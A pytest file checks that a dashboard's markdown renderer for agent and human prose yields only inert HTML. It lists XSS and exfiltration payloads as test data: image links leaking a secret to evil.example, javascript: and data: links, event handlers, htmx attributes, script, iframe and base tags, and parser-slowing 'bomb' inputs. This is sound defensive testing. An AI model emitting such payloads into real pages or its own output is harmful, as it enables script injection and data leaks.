"""Markdown of agents and people as HTML: nothing in it acts, and nothing is fetched for looking at it."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup

from app.dashboard.prose import rendered

HOSTILE = (
    "![leak](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: //evil.example/x.png",
    "[![x](https://evil.example/x.png)](https://example.org)",
    '<img src="https://evil.example/x"><svg onload=x><map><area href=javascript:x></map>',
    '<div hx-get="/x" data-hx-post="/y" hx-on:click="x" hx-swap-oob="true" id="notices" class="x" style="x">a</div>',
    "[a](javascript:alert(1)) [b](data:text/html,<script>1</script>) [c](vbscript:x)",
    '[t](https://example.org "\\" onclick=x")',
    "<script>1</script><style>*{}</style><iframe src=//evil.example></iframe><form action=/x><input name=x></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil.example>",
    "&#x3c;script&#x3e;1&#x3c;/script&#x3e; \\<b\\>",
)
ALLOWED = {"href", "title", "rel", "class", "tabindex", "role", "aria-label"}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_it_acts_or_loads(text: str) -> None:
    soup = BeautifulSoup(rendered(text) or "", "html.parser")
    tags = soup.find_all(True)

    assert {tag.name for tag in tags} <= {"p", "a", "em", "strong", "code", "pre"}
    assert {name for tag in tags for name in tag.attrs} <= ALLOWED
    assert all(str(a["href"]).startswith("https://example.org") for a in soup.select("a[href]"))


def test_an_image_is_told_in_its_words() -> None:
    assert (
        rendered('![Tides <b> & "moon"](https://a.example/x.png)') == '<p>Tides &lt;b&gt; &amp; "moon"</p>\n'
    )


@pytest.mark.parametrize(
    "bomb", ["[" * 20_000, "> " * 20_000, "*a " * 20_000, "`" * 20_001, "![" * 10_000, "- " * 9000]
)
def test_a_text_made_to_be_slow_to_read_is_not(bomb: str) -> None:
    assert rendered(bomb) is not None
